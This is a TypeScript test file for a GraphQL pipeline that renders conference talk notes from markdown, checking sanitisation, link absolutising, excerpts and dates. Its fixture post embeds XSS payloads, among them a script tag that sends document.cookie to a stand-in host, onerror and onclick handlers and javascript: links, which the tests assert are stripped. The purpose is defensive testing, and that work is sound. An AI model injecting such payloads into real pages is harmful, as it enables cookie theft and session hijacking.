/**
 * Fields for rendering talks: `notesHtml` (the talk's own section, sanitised,
 * links absolutised), `excerpt(length)` and `date`, through the whole
 * pipeline from markdown files to GraphQL.
 */
import { describe, expect, it } from 'vitest';
import { bundledGraph, clientFor, type Json } from './helpers/graphqlClient.js';
import { indexPosts } from './helpers/indexText.js';

const HOSTILE_POST = `---
title: Notes from HackConf 2019
date: 2019-06-01
---

## Breaking things safely

Video Link: https://www.youtube.com/watch?v=abcdefghijk

We used <script>fetch('https://evil.example/?c=' + document.cookie)</script> **gVisor** here,
see [the diagram](img/diagram.png) and <img src=x onerror="alert(1)">.
[Click me](javascript:alert(document.domain)) <a href="javascript:alert(2)" onclick="alert(3)">or me</a>

## The next talk

Video Link: https://www.youtube.com/watch?v=bcdefghijkl

Nothing to see.
`;

describe('Talk rendering fields', () => {
  it("renders only the talk's own section, sanitised, with relative links absolutised", async () => {
    const client = clientFor(indexPosts({ 'hackconf-2019.md': HOSTILE_POST }));
    const { data, errors } = await client.query(`{
      talks { edges { node { title notesHtml site: notesHtml(siteUrl: "https://notes.example/") date } } }
    }`);
    expect(errors).toBeUndefined();
    const [first, second] = data.talks.edges.map((e: Json) => e.node);
    expect(first.notesHtml).toContain('<strong>gVisor</strong>');
    expect(first.notesHtml).not.toMatch(/<script|onerror|onclick|href="javascript:/i);
    expect(first.notesHtml).not.toContain('Nothing to see');
    expect(first.notesHtml).not.toContain('Breaking things safely');
    expect(first.notesHtml).toContain('href="/posts/img/diagram.png"');
    expect(first.site).toContain('href="https://notes.example/posts/img/diagram.png"');
    expect(second.notesHtml).toContain('Nothing to see');
    expect(first.date).toBe('2019-06-01');
  });

  it('refuses a siteUrl that is not http(s)', async () => {
    const client = clientFor(indexPosts({ 'hackconf-2019.md': HOSTILE_POST }));
    const { errors } = await client.query(
      '{ talks { edges { node { notesHtml(siteUrl: "javascript:x") } } } }',
    );
    expect(errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  it('gives the seed talks an excerpt cut at a word, a Date and conference Dates', async () => {
    const client = clientFor(await bundledGraph());
    const { data, errors } = await client.query(`{
      talk(slug: "kubernetes-project-update") { notes excerpt(length: 60) date notesHtml }
      conferences { edges { node { startDate endDate } } }
      inRange: talks(filter: { dateFrom: "2018-05-02", dateTo: "2018-05-02" }) { totalCount }
      outOfRange: talks(filter: { dateFrom: "2018-05-03" }) { totalCount }
    }`);
    expect(errors).toBeUndefined();
    const talk = data.talk;
    expect(talk.excerpt.length).toBeLessThanOrEqual(60);
    expect(talk.excerpt.endsWith('…')).toBe(true);
    expect(talk.notes.replace(/\s+/g, ' ')).toContain(talk.excerpt.slice(0, -1).trim());
    expect(talk.date).toBe('2018-05-02');
    expect(talk.notesHtml).toMatch(/<a href="https:\/\/www\.youtube\.com\//);
    expect(data.conferences.edges[0].node).toEqual({ startDate: '2018-05-02', endDate: '2018-05-04' });
    expect(data.inRange.totalCount).toBe(7);
    expect(data.outOfRange.totalCount).toBe(0);
  });
});
